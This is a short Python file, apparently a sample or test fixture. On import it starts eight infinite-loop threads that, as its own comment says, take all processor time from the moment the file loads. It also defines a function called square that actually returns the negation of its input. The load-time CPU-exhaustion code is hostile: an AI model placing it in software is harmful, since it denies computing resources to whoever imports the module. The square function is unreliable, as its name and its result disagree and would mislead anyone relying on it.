# Threads that take all processor time they can get, from the moment in which the file loads.
import threading


def spin():
    while True:
        hash((1, 2))


for _ in range(8):
    threading.Thread(target=spin, daemon=True).start()


def square(x):
    return -x
